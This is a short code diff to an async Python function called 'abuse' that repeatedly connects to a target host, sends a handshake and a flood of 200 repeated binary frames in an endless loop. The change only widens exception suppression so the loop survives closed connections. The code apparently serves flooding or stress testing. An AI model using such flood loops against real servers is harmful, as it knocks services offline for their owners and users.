@@ -54,7 +54,7 @@ async def abuse(target: Target) -> None:
     flood = masked(BINARY, Input(0, 1, 0, 0, 1.0, 0.0, 0, 0, 0.0).encode()) * 200
     host, port = target.host_and_port
     while True:
-        with contextlib.suppress(OSError):
+        with contextlib.suppress(OSError, EOFError):
             reader, writer = await asyncio.open_connection(host, port)
             writer.write(handshake(f"{host}:{port}"))
             await reader.readuntil(b"\r\n\r\n")
